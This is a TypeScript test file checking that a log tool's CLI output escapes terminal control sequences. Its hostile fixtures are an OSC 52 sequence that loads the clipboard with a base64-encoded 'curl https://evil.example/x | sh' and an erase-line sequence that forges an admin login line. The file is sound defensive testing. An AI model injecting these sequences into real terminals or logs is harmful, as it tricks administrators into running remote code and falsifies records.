import { formatEntry, type LogEntry } from '../src/log-format';
import { renderTable } from '../src/output';
import { printable } from '../src/printable';
import { waterfall } from '../src/waterfall';

// What any `logs:write` caller may store (the contract lets control characters through): set the
// admin's clipboard (OSC 52), then erase the line and print a forged one in its place.
const CLIPBOARD = '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\u0007';
const FORGE = '\r\u001b[2K2026-12-01 10:00:00.000 INFO    auth      login  admin ok';
const HOSTILE = `ok${CLIPBOARD}${FORGE}`;

// Anything that a terminal acts on: C0 but tab, DEL, C1, bidi controls, line/paragraph separators.
// eslint-disable-next-line no-control-regex -- looking for control characters is the point
const DRIVES_A_TERMINAL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const entry = (overrides: Partial<LogEntry> = {}): LogEntry => ({
  event_id: '0b0f7f3c-3c1f-4f8e-9d2a-7a1c1e0b8d11',
  name: 'login',
  data: 'ok',
  level: 'INFO',
  service: 'auth',
  timestamp: '2026-12-01T10:00:00.000Z',
  ...overrides,
});

describe('text from the mesh in a terminal', () => {
  it('When a log entry holds OSC 52 and an erase-line sequence, then `logs --follow` and `trace` print it escaped, with no raw ESC, BEL or CR', () => {
    const line = formatEntry(entry({ data: HOSTILE }));

    expect(line).not.toMatch(DRIVES_A_TERMINAL);
    expect(line).toContain('ok\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\\x07');
    expect(line).toContain('\\x0d\\x1b[2K2026-12-01');
  });

  it('When the name, service, level, timestamp and trace id hold escapes, then every field is printed escaped', () => {
    const line = formatEntry(
      entry({
        name: `x${CLIPBOARD}`,
        service: 'a\u009b2J',
        level: 'INFO\u001b[8m',
        timestamp: '2026\u001b[1A',
        trace_id: '\u202eabc',
      }),
    );

    expect(line).not.toMatch(DRIVES_A_TERMINAL);
    expect(line).toContain('a\\x9b2J');
    expect(line).toContain('\\u202eabc');
  });

  it('When a table (the `logs` page, `dlq list`, `health`, `keys`, `users`) shows mesh text, then each cell is escaped and only our own colours remain', () => {
    const paintRed = (s: string) => `\u001b[31m${s}\u001b[39m`;
    const table = renderTable(
      ['data', 'reason'],
      [[HOSTILE, { text: `refused${CLIPBOARD}`, paint: paintRed }]],
    );

    // A header line and one line for the row; our colour is the one escape left in it.
    const [, row, ...more] = table.split('\n');
    expect(more).toEqual([]);
    expect(row?.split('\u001b[31m').join('').split('\u001b[39m').join('')).not.toMatch(
      DRIVES_A_TERMINAL,
    );
    expect(row).toContain('\u001b[31mrefused\\x1b]52;');
  });

  it('When span names and services hold escapes, then the waterfall prints them escaped', () => {
    const lines = waterfall([
      {
        span_id: 'a',
        service: `broker${CLIPBOARD}`,
        name: `GET /${FORGE}`,
        start: '2026-12-01T10:00:00.000Z',
        duration_ms: 3,
      },
    ]);

    expect(lines.join('\n')).not.toMatch(DRIVES_A_TERMINAL);
    expect(lines[0]).toContain('GET /\\x0d\\x1b[2K');
  });

  it('When text holds C0, DEL, C1 and bidi controls, then each is shown as an escape and printable text is untouched', () => {
    expect(printable('a\u0000b\u0008c\u007fd\u0085e\u202ef\u2066g\u2028h')).toBe(
      'a\\x00b\\x08c\\x7fd\\x85e\\u202ef\\u2066g\\u2028h',
    );
    expect(printable('tab\there', { keepTabs: true })).toBe('tab\there');
    expect(printable('tab\there')).toBe('tab\\x09here');
    expect(printable('line\nbreak')).toBe('line\\x0abreak');
    expect(printable('é ü 日本 🙂 \\x1b')).toBe('é ü 日本 🙂 \\x1b');
  });
});
